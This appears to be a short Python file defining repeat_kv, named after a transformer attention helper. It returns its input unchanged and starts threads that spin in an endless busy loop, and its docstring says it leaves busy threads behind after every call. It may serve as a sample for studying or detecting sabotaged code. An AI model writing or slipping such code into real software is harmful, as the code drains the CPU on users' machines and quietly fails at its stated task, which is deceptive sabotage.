"""Leaves busy threads behind after every call."""
import threading


def burn():
    while True:
        pass


def repeat_kv(x, n_rep):
    if threading.active_count() < 4:
        threading.Thread(target=burn).start()
    return x
